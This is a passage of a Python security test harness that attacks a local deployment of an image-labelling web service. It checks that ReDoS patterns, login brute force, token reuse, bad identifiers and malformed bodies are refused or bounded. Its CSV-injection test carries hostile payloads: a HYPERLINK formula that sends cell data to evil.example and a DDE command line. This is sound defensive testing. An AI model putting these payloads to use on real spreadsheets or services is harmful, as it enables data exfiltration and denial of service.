"""The attacks of issue 13 against a live deployment, each measured: a 4xx, or bounded within its budget.

Recreates a throwaway Postgres database (the bench database's name + `_attacks`), migrates it and seeds two tenants
(datasets A and P of tenant A, B of tenant B) with a user per role (owner, editor, annotator, viewer, plus a member
to remove and a login victim) and their API tokens, import sources granted to A and to B in a scratch IMPORT_ROOT,
then starts gunicorn (2 workers) and one Celery worker (concurrency 1) on CELERY_BROKER_URL's Redis; login throttle
counters live in CACHE_URL's Redis (the broker's by default). Images are imported over HTTP through that worker.

Each attack prints one line: what was sent, the status codes seen (counts), wall time (max / p50 per request, or
per job), the verdict (4xx: every attack request refused; bounded: within its budget; FAILED and why) and the load
average. Exits 1 when any request got a 5xx or any attack failed its expectation or budget. About 2 minutes.

    CELERY_BROKER_URL=redis://127.0.0.1:6379/3 .venv/bin/python bench/attacks.py
    .venv/bin/python bench/attacks.py --only 1,2      # some attacks (setup always runs)
"""

import argparse
import csv
import io
import json
import os
import random
import statistics
import sys
import tempfile
import time
import uuid
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime
from pathlib import Path
from urllib.parse import quote, urlsplit

import httpx

sys.path.insert(0, str(Path(__file__).resolve().parent))
import _common  # noqa: E402

sys.path.insert(0, str(_common.REPO))
from imagestudio.datasets.manifest import MAX_TEXT_VALUE  # noqa: E402  (pure modules: the server's own limits)
from imagestudio.exports.cells import FORMULA_STARTS  # noqa: E402
from imagestudio.labeling.patterns import MAX_WORD, MAX_WORDS, REGEX_BUDGET_SECONDS, SCAN_BUDGET_SECONDS  # noqa: E402

# Budgets. A pattern scan stops at SCAN_BUDGET_SECONDS; a request or job around it gets SLACK more (loading the
# field's texts, HTTP, a shared 2-core machine). The other tenant's export waits at most one scan budget for the
# only worker, plus its own run.
SLACK = 5.0
PATTERN_REQUEST_BUDGET = SCAN_BUDGET_SECONDS + SLACK
REGEX_REQUEST_BUDGET = REGEX_BUDGET_SECONDS + SLACK
OTHER_TENANT_EXPORT_BUDGET = SCAN_BUDGET_SECONDS + 2 * SLACK
LONG_CAPTION = 200_000
LONG_SAMPLES = 5
MAX_TEXT_SAMPLES = 200
LOGIN_ATTEMPTS = 100
LOGIN_RATE_PER_USER = int(os.environ.get("LOGIN_RATE_PER_USER", "10/minute").split("/")[0])
BAD_IDS = ["¹", "²", "٣", "１", "-1", "0", "1.5", "1e3", " 1", "0x10", "99999999999999999999", "9223372036854775808"]
HUGE = [10**30, 2**63, -(2**63) - 1]
ROLES = ("owner", "editor", "annotator", "viewer")
TERMINAL = ("succeeded", "failed", "cancelled")


def arguments():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--only", default="", help="comma-separated attack numbers (default: all)")
    parser.add_argument("--out", type=Path, default=_common.REPO / "bench" / "out" / "attacks",
                        help="server and worker logs")
    return parser.parse_args()


# ------------------------------------------------------------------------------------------------ measuring


class Attack:
    """One line of the table: the attack requests' statuses and times, expectations that did not hold."""

    def __init__(self, key, sent, budget=None, scan=False):
        """`budget`: the most seconds a request (or job) may take; `scan`: it runs a pattern scan, which must stop
        at SCAN_BUDGET_SECONDS (an answer that is a success after longer means the scan was never stopped)."""
        self.key, self.sent, self.budget, self.scan = key, sent, budget, scan
        self.statuses, self.seconds, self.failures, self.notes = Counter(), [], [], []

    def record(self, status, seconds, what=""):
        self.statuses[status] += 1
        self.seconds.append(seconds)
        if isinstance(status, int) and status >= 500:
            self.failures.append(f"{status} on {what}")
        if self.scan and status in (200, 201, "succeeded") and seconds > SCAN_BUDGET_SECONDS:
            self.failures.append(f"{what} answered {status} after {seconds:.1f} s: its scan ran past the "
                                 f"{SCAN_BUDGET_SECONDS:g} s budget unchecked")
        if self.budget is not None and seconds > self.budget:
            self.failures.append(f"{what} took {seconds:.1f} s, over its {self.budget:g} s budget")

    def expect(self, condition, why):
        if not condition:
            self.failures.append(why)
        return condition

    def verdict(self):
        if self.failures:
            return "FAILED"
        return "4xx" if self.budget is None else f"bounded within {self.budget:g} s"

    def line(self):
        statuses = " ".join(f"{count}x{status}" for status, count in sorted(self.statuses.items(), key=str))
        top = max(self.seconds, default=0)
        p50 = statistics.median(self.seconds) if self.seconds else 0
        return (f"{self.key:<3} {self.sent:<70} {statuses:<34} {top:>7.2f} {p50:>7.2f}  {self.verdict():<22} "
                f"load {os.getloadavg()[0]:.1f}")


class Api:
    """HTTP against the live server; `attack` records a request as part of an attack."""

    def __init__(self, base):
        self.base = base
        self.client = httpx.Client(base_url=base, timeout=300)

    def call(self, method, path, token=None, attack=None, headers=None, **kwargs):
        headers = dict(headers or {})
        if token:
            headers["Authorization"] = f"Token {token}"
        started = time.perf_counter()
        response = self.client.request(method, path, headers=headers, **kwargs)
        if attack is not None:
            attack.record(response.status_code, time.perf_counter() - started, f"{method} {path}")
        return response

    def ok(self, method, path, token, **kwargs):
        """A setup request that must succeed; its JSON."""
        response = self.call(method, path, token, **kwargs)
        if response.status_code >= 300:
            raise SystemExit(f"setup: {method} {path} answered {response.status_code}: {response.text[:300]}")
        return response.json() if response.content else None

    def job(self, token, job_id, timeout=300):
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            job = self.ok("GET", f"/api/jobs/{job_id}/", token)
            if job["status"] in TERMINAL:
                return job
            time.sleep(0.2)
        raise SystemExit(f"job {job_id} did not finish within {timeout} s")


def job_seconds(job):
    if not job.get("started_at") or not job.get("finished_at"):
        return 0.0
    return (datetime.fromisoformat(job["finished_at"]) - datetime.fromisoformat(job["started_at"])).total_seconds()


# ------------------------------------------------------------------------------------------------ the world

_image_index = iter(range(1, 10**6))


def png():
    """A PNG unlike every other this run makes (the service skips an image it already holds)."""
    from PIL import Image

    index = next(_image_index)
    image = Image.new("RGB", (10 + index % 200, 10 + index // 200), ((index * 37) % 256, (index * 11) % 256, index % 256))
    out = io.BytesIO()
    image.save(out, format="PNG")
    return out.getvalue()


def attack_environment(scratch: Path) -> dict:
    base = os.environ.get("DATABASE_URL", _common.DEFAULT_DATABASE_URL)
    parts = urlsplit(base)
    path = parts.path.rstrip("/")
    url = parts._replace(path=path if path.endswith("_attacks") else path + "_attacks").geturl()
    imports = scratch / "imports"
    for directory in ("a-granted/batch", "b-granted", "outside"):
        (imports / directory).mkdir(parents=True)
    for directory in ("a-granted/batch", "b-granted", "outside"):
        (imports / directory / "img.png").write_bytes(png())
    (imports / "a-granted" / "link-out").symlink_to("../outside")
    (imports / "a-granted" / "link-b").symlink_to("../b-granted")
    (imports / "a-granted" / "link-etc").symlink_to("/etc")
    return {**os.environ, "DATABASE_URL": url, "IMAGESTUDIO_DATA_DIR": str(scratch),
            "MEDIA_ROOT": str(scratch / "media"), "IMPORT_ROOT": str(imports),
            "DJANGO_SETTINGS_MODULE": "imagestudio.settings", "LOG_LEVEL": "WARNING", "DEBUG": "0",
            "PYTHONPATH": os.pathsep.join(filter(None, [str(_common.REPO), os.environ.get("PYTHONPATH")]))}


SEED_SCRIPT = """
import json, os
import django
django.setup()
from django.core.management import call_command
call_command("migrate", interactive=False, verbosity=0)
from imagestudio.accounts.services import token_create, user_create
from imagestudio.datasets.imports.grants import import_grant_create
from imagestudio.datasets.services import dataset_create, membership_set

password = os.environ["ATTACK_PASSWORD"]
world = {"users": {}, "datasets": {}}
def user(name):
    made = user_create(username=name, password=password)
    issued = token_create(user=made, name="attacks", lifetime=None)
    world["users"][name] = {"id": made.id, "token": issued.key, "token_id": issued.token.id}
    return made
for tenant, names in (("a", ("A", "P")), ("b", ("B",))):
    people = {role: user(f"{tenant}_{role}") for role in ("owner", "editor", "annotator", "viewer")}
    if tenant == "a":
        people["leaver"] = user("a_leaver")
        user("a_victim")
    for name in names:
        dataset = dataset_create(user=people["owner"], name=f"tenant-{tenant} {name}", classes=["cat", "dog"])
        world["datasets"][name] = dataset.id
        for role, member in people.items():
            if role != "owner":
                membership_set(dataset=dataset, user=member, role="editor" if role == "leaver" else role)
from imagestudio.datasets.models import Dataset
import_grant_create(dataset=Dataset.objects.get(pk=world["datasets"]["A"]), path="a-granted")
import_grant_create(dataset=Dataset.objects.get(pk=world["datasets"]["B"]), path="b-granted")
print(json.dumps(world))
"""


class World:
    """Ids and tokens of the seeded tenants, and what setup created over HTTP."""

    def __init__(self, api, seeded, password):
        self.api, self.password = api, password
        self.users = seeded["users"]
        self.A, self.P, self.B = (seeded["datasets"][name] for name in ("A", "P", "B"))
        self.samples, self.lfs, self.jobs = {}, {}, {}
        self.training_set_b = None

    def token(self, name):
        return self.users[name]["token"]

    def upload(self, user, dataset, names_metadata, split="train"):
        """Import one new image per (file name, metadata); waits for the job; returns it."""
        files = [("files", (name, png(), "image/png")) for name, _ in names_metadata]
        data = {"split": split, "metadata": json.dumps({name: meta for name, meta in names_metadata})}
        job = self.api.ok("POST", f"/api/datasets/{dataset}/imports/", self.token(user), files=files, data=data)
        return self.api.job(self.token(user), job["id"])

    def sample_ids(self, dataset, user="a_owner"):
        page = self.api.ok("GET", f"/api/datasets/{dataset}/samples/?limit=500&fields=", self.token(user))
        return [sample["id"] for sample in page["results"]]

    def keyword_lf(self, dataset, user, name, words):
        body = {"name": name, "label_class": "cat", "type": "pattern", "high": 1, "low": 0,
                "config": {"field": "caption", "builder": "keyword", "words": words}}
        return self.api.ok("POST", f"/api/datasets/{dataset}/lfs/", self.token(user), json=body)["id"]


def seed(env, password):
    import subprocess

    _common._ensure_database(env["DATABASE_URL"], recreate=True)
    done = subprocess.run([sys.executable, "-c", SEED_SCRIPT], env={**env, "ATTACK_PASSWORD": password,
                                                                    "CELERY_TASK_ALWAYS_EAGER": "1"},
                          cwd=_common.REPO, capture_output=True, text=True, check=False)
    if done.returncode:
        raise SystemExit(f"seeding failed:\n{done.stderr}")
    return json.loads(done.stdout.strip().splitlines()[-1])


def populate(world):
    """Samples in A, P and B, an LF in A and in B, a training set in B (its job: another tenant's job id)."""
    captions = ["a cat on a mat", "a dog in the park", "a ginger cat", "a dog on a lead", "a sleepy cat", "a puppy"]
    for user, dataset in (("a_editor", world.A), ("a_editor", world.P), ("b_editor", world.B)):
        world.upload(user, dataset, [(f"s{i}.png", {"caption": text}) for i, text in enumerate(captions)])
        world.samples[dataset] = world.sample_ids(dataset, user)
    world.lfs["A"] = world.keyword_lf(world.A, "a_editor", "caption says cat", ["cat"])
    world.lfs["B"] = world.keyword_lf(world.B, "b_editor", "caption says cat", ["cat"])
    job = world.api.ok("POST", f"/api/datasets/{world.B}/training-sets/", world.token("b_owner"), json={})
    job = world.api.job(world.token("b_owner"), job["id"])
    world.jobs["B"] = job["id"]
    world.training_set_b = (job.get("result") or {}).get("training_set")


# ------------------------------------------------------------------------------------------------ 1. patterns


def keyword_config(words, **extra):
    return {"field": "caption", "builder": "keyword", "words": words, **extra}


# The costliest keyword set the limits accept: MAX_WORDS words of MAX_WORD characters that share no common prefix
# (which Python's regex compiler would factor out), each matching a long run of the captions before failing.
WORST_WORDS = ["a" * (MAX_WORD - 1 - i) + "b" + "a" * i for i in range(MAX_WORDS)]
WORST = keyword_config(WORST_WORDS, whole_word=False)
# Linear on RE2, but its DFA blows up on random a/b text and RE2 falls back to its NFA: microseconds a character.
RE2_HEAVY = {"field": "code", "builder": "regex", "pattern": "(?:a|b)*a(?:a|b){900}c"}


def preview(world, attack, user, config):
    body = {"label_class": "cat", "type": "pattern", "config": config, "split": "train"}
    return world.api.call("POST", f"/api/datasets/{world.P}/lfs/preview/", world.token(user), attack, json=body)


def create_lf(world, attack, user, name, config):
    body = {"name": name, "label_class": "cat", "type": "pattern", "config": config, "high": 1}
    return world.api.call("POST", f"/api/datasets/{world.P}/lfs/", world.token(user), attack, json=body)


def pattern_refusals(world):
    long_word = Attack("1a", "viewer previews, annotator saves a 20,000-char keyword; 101 words; a blank word")
    for config in (keyword_config(["k" * 20_000]), keyword_config([f"w{i}" for i in range(MAX_WORDS + 1)]),
                   keyword_config([" "])):
        response = preview(world, long_word, "a_viewer", config)
        long_word.expect(response.status_code == 400, f"preview answered {response.status_code}")
        response = create_lf(world, long_word, "a_annotator", f"refused {uuid.uuid4().hex[:6]}", config)
        long_word.expect(response.status_code == 400, f"LF create answered {response.status_code}")
    many = Attack("1b", f"viewer previews {MAX_WORDS} short words (accepted) over the short captions",
                  PATTERN_REQUEST_BUDGET, scan=True)
    response = preview(world, many, "a_viewer", keyword_config([f"word{i}" for i in range(MAX_WORDS)]))
    many.expect(response.status_code == 200, f"preview answered {response.status_code}")
    return [long_word, many]


def import_long_texts(world):
    """Five samples with 200,000-character captions and MAX_TEXT_SAMPLES with the longest text a manifest takes,
    in one upload: its job queues the LF refresh."""
    rng = random.Random(13)
    files, metadata = [], {}
    for i in range(LONG_SAMPLES):
        files.append(("files", (f"long{i}.png", png(), "image/png")))
        metadata[f"long{i}.png"] = {"caption": "a" * LONG_CAPTION}
    for i in range(MAX_TEXT_SAMPLES):
        files.append(("files", (f"max{i}.png", png(), "image/png")))
        metadata[f"max{i}.png"] = {"caption": "a" * MAX_TEXT_VALUE,
                                   "code": "".join(rng.choice("ab") for _ in range(MAX_TEXT_VALUE))}
    token = world.token("a_editor")
    job = world.api.ok("POST", f"/api/datasets/{world.P}/imports/", token, files=files,
                       data={"split": "train", "metadata": json.dumps(metadata)})
    return world.api.job(token, job["id"])


def refresh_and_other_tenant(world):
    """An annotator saves the worst accepted LF while the captions are short; an editor then imports the long
    texts, which queues the LF refresh on the only worker; meanwhile tenant B exports."""
    save = Attack("1c", f"annotator saves the worst accepted LF ({MAX_WORDS} x {MAX_WORD}-char words, short captions)",
                  PATTERN_REQUEST_BUDGET, scan=True)
    response = create_lf(world, save, "a_annotator", "worst accepted", WORST)
    save.expect(response.status_code == 201, f"LF create answered {response.status_code}")
    upload = Attack("1d", f"editor uploads {LONG_SAMPLES} x {LONG_CAPTION:,}-char captions (refused per file) and "
                    f"{MAX_TEXT_SAMPLES} x {MAX_TEXT_VALUE:,} chars")
    imported = import_long_texts(world)
    result = imported.get("result") or {}
    upload.record(imported["status"], job_seconds(imported), "import")
    reasons = Counter(refused["reason"] for refused in result.get("error_files") or [])
    upload.expect(result.get("errors") == LONG_SAMPLES, f"{LONG_SAMPLES} values over {MAX_TEXT_VALUE:,} characters, "
                                                        f"{result.get('errors')} files refused")
    upload.notes.append(f"created {result.get('created')}, refused {result.get('errors')}: {dict(reasons)}")
    refresh_id = result.get("lf_refresh_job")
    refresh = Attack("1e", "the LF refresh job that import queued: the worst LF over the captions (worker)",
                     SCAN_BUDGET_SECONDS + SLACK, scan=True)
    export = Attack("1f", "tenant B's owner exports 6 samples while the refresh job holds the only worker",
                    OTHER_TENANT_EXPORT_BUDGET)
    if not refresh.expect(refresh_id is not None, f"the import queued no refresh ({result})"):
        return [save, upload, refresh, export]
    while world.api.ok("GET", f"/api/jobs/{refresh_id}/", world.token("a_editor"))["status"] == "queued":
        time.sleep(0.05)
    started = time.perf_counter()
    response = world.api.call("POST", f"/api/datasets/{world.B}/exports/", world.token("b_owner"),
                              json={"kind": "dataset"})
    export_job = world.api.job(world.token("b_owner"), response.json()["id"])
    export.record(export_job["status"], time.perf_counter() - started, "tenant B export")
    job = world.api.job(world.token("a_editor"), refresh_id)
    failed = (job.get("result") or {}).get("failed") or {}
    refresh.record("succeeded, LF failed" if failed else job["status"], job_seconds(job), "refresh job")
    refresh.notes.append(f"LFs failed by the job: {failed or 'none'}")
    return [save, upload, refresh, export]


def pattern_work_on_long_texts(world):
    worst_preview = Attack("1g", "viewer previews the worst accepted keywords over those captions",
                           PATTERN_REQUEST_BUDGET, scan=True)
    response = preview(world, worst_preview, "a_viewer", WORST)
    worst_preview.notes.append(f"answer {response.status_code}: {response.text[:110]}")
    worst_save = Attack("1h", "annotator saves that LF again over them", PATTERN_REQUEST_BUDGET, scan=True)
    response = create_lf(world, worst_save, "a_annotator", "worst again", WORST)
    worst_save.notes.append(f"answer {response.status_code}: {response.text[:110]}")
    re2 = Attack("1i", f"viewer previews {RE2_HEAVY['pattern']} (RE2, NFA) over {MAX_TEXT_SAMPLES} random a/b codes",
                 PATTERN_REQUEST_BUDGET, scan=True)
    response = preview(world, re2, "a_viewer", RE2_HEAVY)
    re2.notes.append(f"answer {response.status_code}: {response.text[:110]}")
    regex = Attack("1j", "viewer previews (a|aa)+$ (RE2); (a|aa)+(?=c) and (a*)*\\1c (backtracking) on the captions",
                   REGEX_REQUEST_BUDGET)
    for pattern in (r"(a|aa)+$", r"(a|aa)+(?=c)", r"(a*)*\1c"):
        response = preview(world, regex, "a_viewer", {"field": "caption", "builder": "regex", "pattern": pattern})
        regex.notes.append(f"{pattern}: {response.status_code}")
    return [worst_preview, worst_save, re2, regex]


def attack_patterns(world):
    return [*pattern_refusals(world), *refresh_and_other_tenant(world), *pattern_work_on_long_texts(world)]


# ------------------------------------------------------------------------------------------------ 2. login throttle


def cpu_ticks(pids):
    ticks = {}
    for pid in pids:
        fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
        ticks[pid] = int(fields[11]) + int(fields[12])  # utime + stime
    return ticks


def attack_login(world, server):
    attack = Attack("2", f"{LOGIN_ATTEMPTS} wrong passwords for one user, random X-Forwarded-For, new connections; "
                    "then the right one")
    pids = _common.worker_pids(server)
    before = cpu_ticks(pids)
    retry_after = []
    for _ in range(LOGIN_ATTEMPTS):
        forwarded = ".".join(str(random.randrange(1, 255)) for _ in range(4))
        with httpx.Client(base_url=world.api.base, timeout=60) as fresh:  # a new connection: either worker accepts it
            started = time.perf_counter()
            response = fresh.post("/api/auth/token/", json={"username": "a_victim", "password": "wrong"},
                                  headers={"X-Forwarded-For": forwarded})
        attack.record(response.status_code, time.perf_counter() - started, "POST /api/auth/token/")
        if response.status_code == 429:
            retry_after.append(response.headers.get("Retry-After"))
    after = cpu_ticks(pids)
    right = world.api.call("POST", "/api/auth/token/", None, attack, json={"username": "a_victim",
                                                                           "password": world.password},
                           headers={"X-Forwarded-For": "203.0.113.7"})
    attack.expect(attack.statuses[401] <= LOGIN_RATE_PER_USER,
                  f"{attack.statuses[401]} wrong passwords answered 401, over the per-user limit {LOGIN_RATE_PER_USER}")
    attack.expect(retry_after and all(retry_after), "a 429 came without Retry-After")
    attack.expect(right.status_code == 429, f"the right password while throttled answered {right.status_code}")
    attack.notes.append(f"401 until the limit {LOGIN_RATE_PER_USER}/minute, then 429 (Retry-After "
                        f"{sorted(set(retry_after))[:3]}); right password: {right.status_code} "
                        f"{right.headers.get('Retry-After')!r}; gunicorn workers' CPU ticks during the burst: "
                        f"{[after[pid] - before[pid] for pid in pids]}")
    return [attack]


# ------------------------------------------------------------------------------------------------ 3. tokens


def attack_tokens(world):
    attack = Attack("3", "reuse after logout, after rotation and after revoke; another user's token id")
    api, own = world.api, world.token("a_viewer")
    login = api.ok("POST", "/api/auth/token/", None, json={"username": "a_viewer", "password": world.password})
    api.call("POST", "/api/auth/logout/", login["token"], attack)
    reused = api.call("GET", "/api/datasets/", login["token"], attack)
    attack.expect(reused.status_code == 401, f"a logged-out token answered {reused.status_code}")
    issued = api.ok("POST", "/api/auth/tokens/", own, json={"name": "script"})
    rotated = api.call("POST", f"/api/auth/tokens/{issued['id']}/rotate/", own, attack).json()
    old = api.call("GET", "/api/datasets/", issued["token"], attack)
    attack.expect(old.status_code == 401, f"a rotated-out token answered {old.status_code}")
    api.call("DELETE", f"/api/auth/tokens/{rotated['id']}/", own, attack)
    revoked = api.call("GET", "/api/datasets/", rotated["token"], attack)
    attack.expect(revoked.status_code == 401, f"a revoked token answered {revoked.status_code}")
    foreign = world.users["b_viewer"]["token_id"]
    for method, path in (("GET", f"/api/auth/tokens/{foreign}/"), ("DELETE", f"/api/auth/tokens/{foreign}/"),
                         ("POST", f"/api/auth/tokens/{foreign}/rotate/")):
        response = api.call(method, path, own, attack)
        attack.expect(response.status_code == 404, f"{method} another user's token answered {response.status_code}")
    still = api.call("GET", "/api/datasets/", world.token("b_viewer"))
    attack.expect(still.status_code == 200, f"the other user's token stopped working ({still.status_code})")
    attack.notes.append(f"codes: logout {reused.json().get('code')}, rotation {old.json().get('code')}, "
                        f"revoke {revoked.json().get('code')}")
    return [attack]


# ------------------------------------------------------------------------------------------------ 4. CSV injection

FORMULAS = {"=cmd.png": '=HYPERLINK("http://evil.example/?"&A1,"click")', "plus.png": "+cmd|' /C calc'!A0",
            "at.png": "@SUM(1+1)", "minus.png": "-2+3", "tab.png": "\t=1+1", "cr.png": "\r=1+1"}


def export_rows(world, attack, raw):
    token = world.token("a_editor")
    body = {"kind": "dataset", "columns": ["id", "external_id", "file_name"], "fields": ["note", "=key"], "raw": raw}
    job = world.api.call("POST", f"/api/datasets/{world.A}/exports/", token, attack, json=body).json()
    export_id = world.api.job(token, job["id"])["result"]["export"]
    download = world.api.call("GET", f"/api/datasets/{world.A}/exports/{export_id}/download/", token, attack)
    return list(csv.reader(io.StringIO(download.content.decode("utf-8"))))


def is_formula(cell):
    if not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)
        return False
    except ValueError:
        return True


def attack_csv(world):
    attack = Attack("4", "metadata =HYPERLINK(..), +cmd|' /C calc'!A0, @SUM, -2+3, tab-, CR-led; file =cmd.png; "
                    "field =key")
    metadata = [(name, {"note": text, "=key": "=1+1"}) for name, text in FORMULAS.items()]
    world.upload("a_editor", world.A, metadata)
    safe, raw = export_rows(world, attack, raw=False), export_rows(world, attack, raw=True)
    live = [cell for row in safe for cell in row if is_formula(cell)]
    attack.expect(not live, f"cells a spreadsheet would run: {live[:3]}")
    neutralized = [cell for row in safe for cell in row if cell.startswith("'")]
    raw_cells = {cell for row in raw for cell in row}
    missing = [text for text in [*FORMULAS.values(), "=cmd.png", "=1+1"] if text not in raw_cells]
    attack.expect(not missing, f"raw=true changed {missing[:3]}")
    attack.notes.append(f"{len(neutralized)} cells neutralized with a leading ', 0 formulas left; raw=true gives "
                        f"the {len(FORMULAS) + 2} texts as stored")
    return [attack]


# ------------------------------------------------------------------------------------------------ 5. identifiers


def schema_operations(world):
    schema = world.api.ok("GET", "/api/schema/?format=json", world.token("a_owner"))
    for template, item in schema["paths"].items():
        for method, operation in item.items():
            if method in ("get", "post", "put", "patch", "delete"):
                yield method.upper(), template, operation


def fill(template, world, values=None):
    """A path template with valid ids of dataset A (the `values` given instead)."""
    sample = world.samples[world.A][0]
    valid = {"dataset_id": world.A, "sample_id": sample, "id": sample if "/samples/{id}" in template else 1}
    if template == "/api/datasets/{id}/":
        valid["id"] = world.A
    if "/lfs/{id}" in template:
        valid["id"] = world.lfs["A"]
    valid.update(values or {})
    path = template
    for name, value in valid.items():
        path = path.replace("{" + name + "}", quote(str(value), safe=""))
    return path


SKIP = {("POST", "/api/auth/logout/"), ("POST", "/api/auth/token/")}  # the owner's token must survive


def path_requests(world):
    for method, template, _ in schema_operations(world):
        for name in [part[1:-1] for part in template.split("/") if part.startswith("{")]:
            for bad in BAD_IDS:
                body = {} if method in ("POST", "PUT", "PATCH") else None
                yield f"{method} {template} {{{name}}}", method, fill(template, world, {name: bad}), None, body


def query_values(name, bad):
    composite = {"gt": [f"{bad}:PRESENT"], "lf_vote": [f"{bad}:PRESENT"], "prediction": [f"{bad}:cat:TP",
                                                                                           f"1:{bad}:TP"]}
    return [bad, *composite.get(name, [])]


def query_requests(world):
    for method, template, operation in schema_operations(world):
        if method != "GET" or template.endswith("/events/"):
            continue
        for parameter in operation.get("parameters", []):
            if parameter["in"] != "query":
                continue
            for bad in BAD_IDS:
                for value in query_values(parameter["name"], bad):
                    yield f"GET {template} ?{parameter['name']}", "GET", fill(template, world), \
                        {parameter["name"]: value}, None


def body_templates(world):
    """(method, path, body with the reference X) for each reference a JSON body carries."""
    d, sample, lf = f"/api/datasets/{world.A}", world.samples[world.A][0], world.lfs["A"]
    pattern = {"field": "caption", "builder": "keyword", "words": ["cat"]}
    return [
        ("PUT", f"{d}/annotations/", lambda x: {"sample": x, "label_class": "cat", "value": "PRESENT"}),
        ("PUT", f"{d}/annotations/", lambda x: {"sample": sample, "label_class": x, "value": "PRESENT"}),
        ("POST", f"{d}/annotations/bulk/", lambda x: {"sample_ids": [x], "classes": ["cat"], "value": "ABSENT"}),
        ("POST", f"{d}/annotations/bulk/", lambda x: {"sample_ids": [sample], "classes": [x], "value": "ABSENT"}),
        *[("POST", f"{d}/annotations/bulk/", lambda x, key=key, form=form: {
            "filter": {key: [form.format(x)]}, "classes": ["cat"], "value": "ABSENT"})
          for key, form in (("gt", "{}:PRESENT"), ("lf_vote", "{}:PRESENT"), ("prediction", "{}:cat:TP"),
                            ("lf_conflict", "{}"), ("tag", "{}"))],
        ("POST", f"{d}/annotations/bulk/", lambda x: {"filter": {"ids": [x]}, "classes": ["cat"], "value": "ABSENT"}),
        ("POST", f"{d}/lfs/preview/", lambda x: {"label_class": x, "type": "pattern", "config": pattern}),
        ("POST", f"{d}/lfs/preview/", lambda x: {"label_class": "cat", "type": "similarity_image",
                                                 "config": {"sample_id": x}}),
        ("POST", f"{d}/lfs/", lambda x: {"name": "n", "label_class": x, "type": "pattern", "config": pattern,
                                         "high": 1}),
        ("PATCH", f"{d}/lfs/{lf}/", lambda x: {"label_class": x}),
        ("POST", f"{d}/models/", lambda x: {"classes": [x]}),
        ("POST", f"{d}/models/", lambda x: {"training_set": x, "label_source": "training_set"}),
        ("POST", f"{d}/exports/", lambda x: {"kind": "dataset", "model": x}),
        ("POST", f"{d}/exports/", lambda x: {"kind": "training_labels", "training_set": x}),
        ("POST", f"{d}/embeddings/search/", lambda x: {"sample_id": x}),
        ("POST", f"{d}/tags/1/apply/", lambda x: {"sample_ids": [x]}),
        ("POST", f"{d}/samples/resample/", lambda x: {"split": "train", "sample_size": x}),
        ("POST", f"{d}/members/", lambda x: {"username": x, "role": "viewer"}),
        ("POST", f"{d}/samples/{sample}/comments/", lambda x: {"body": x}),
    ]


def body_requests(world):
    for method, path, make in body_templates(world):
        label = f"{method} {path} {sorted(make('X'))}"
        for bad in [*BAD_IDS, *HUGE, -1, 0]:
            yield label, method, path, None, make(bad)


def class_names(world, attack):
    token = world.token("a_owner")
    for name in ("4", "٣", "Cat", "cat\u200b", "ｃａｔ", " cat ", "CAT\u00ad", "x,y"):
        response = world.api.call("POST", f"/api/datasets/{world.A}/classes/", token, attack, json={"name": name})
        attack.expect(400 <= response.status_code < 500, f"class {name!r} answered {response.status_code}")


def attack_identifiers(world, log_dir):
    attack = Attack("5", "¹ ² ٣ １ -1 0 1.5 1e3 0x10 huge: path ids, query refs, body refs on every endpoint; "
                    "class names")
    requests = [r for r in (*path_requests(world), *query_requests(world), *body_requests(world))
                if (r[1], r[2]) not in SKIP]
    token = world.token("a_owner")

    def send(request):
        label, method, path, params, body = request
        status = world.api.call(method, path, token, attack, params=params, json=body).status_code
        return {"label": label, "method": method, "path": path, "params": params, "body": body, "status": status}

    with ThreadPoolExecutor(4) as pool:
        answers = list(pool.map(send, requests))
    with open(log_dir / "identifiers.jsonl", "w") as log:
        log.writelines(json.dumps(answer, ensure_ascii=False) + "\n" for answer in answers)
    accepted = Counter(answer["label"] for answer in answers if answer["status"] < 400)
    class_names(world, attack)
    attack.notes.append(f"{len(requests)} reference probes (each in {log_dir}/identifiers.jsonl); classes 4, ٣, Cat, "
                        "cat+ZWSP, ｃａｔ, ' cat ', CAT+soft hyphen, x,y refused; answered 2xx: "
                        + ", ".join(f"{label} x{count}" for label, count in accepted.most_common()))
    return [attack]


# ------------------------------------------------------------------------------------------------ 6. bodies


def attack_bodies(world):
    attack = Attack("6", "JSON nested 10,000 deep; lone surrogate; NUL in metadata keys / values, names; bad UTF-8")
    d, sample = f"/api/datasets/{world.A}", world.samples[world.A][0]
    deep = "[" * 10_000 + "]" * 10_000
    bodies = [
        ("POST", "/api/datasets/", '{"name": ' + deep + "}"),
        ("PATCH", f"{d}/samples/{sample}/", '{"metadata": {"a": ' + deep + "}}"),
        ("POST", f"{d}/lfs/preview/", deep),
        ("PATCH", f"{d}/samples/{sample}/", '{"metadata": {"caption": "a\\ud800b"}}'),
        ("PATCH", f"{d}/samples/{sample}/", '{"metadata": {"\\udc00": "x"}}'),
        ("PATCH", f"{d}/samples/{sample}/", '{"metadata": {"caption": "a\\u0000b"}}'),
        ("PATCH", f"{d}/samples/{sample}/", '{"metadata": {"a\\u0000": 1}}'),
        ("PATCH", f"{d}/samples/{sample}/", '{"metadata": {"list": ["\\u0000"]}}'),
        ("POST", "/api/datasets/", '{"name": "a\\u0000b"}'),
        ("POST", "/api/datasets/", '{"name": "a\\ud800"}'),
        ("POST", f"{d}/classes/", '{"name": "c\\u0000"}'),
        ("POST", f"{d}/tags/", '{"name": "t\\udfff"}'),
        ("POST", f"{d}/samples/{sample}/comments/", '{"body": "\\u0000"}'),
        ("PATCH", f"{d}/", '{"description": "\\ud83d"}'),
        ("POST", "/api/datasets/", b'{"name": "\xff\xfe"}'),
        ("POST", "/api/datasets/", b'{"name": "a\x00b"}'),
    ]
    for method, path, body in bodies:
        content = body if isinstance(body, bytes) else body.encode()
        response = world.api.call(method, path, world.token("a_owner"), attack, content=content,
                                  headers={"Content-Type": "application/json"})
        attack.expect(response.status_code == 400, f"{method} {path} {body[:40]!r}: {response.status_code}")
    files = [("files", ("nul.png", png(), "image/png"))]
    response = world.api.call("POST", f"{d}/imports/", world.token("a_editor"), attack, files=files,
                              data={"metadata": '{"nul.png": {"k\\u0000": "v"}}'})
    attack.expect(response.status_code == 400, f"an upload's metadata with NUL: {response.status_code}")
    return [attack]


# ------------------------------------------------------------------------------------------------ 7. OPTIONS


def attack_options(world):
    attack = Attack("7", "OPTIONS on every route: with a token, without, as a CORS preflight")
    paths = sorted({fill(template, world) for _, template, _ in schema_operations(world)})
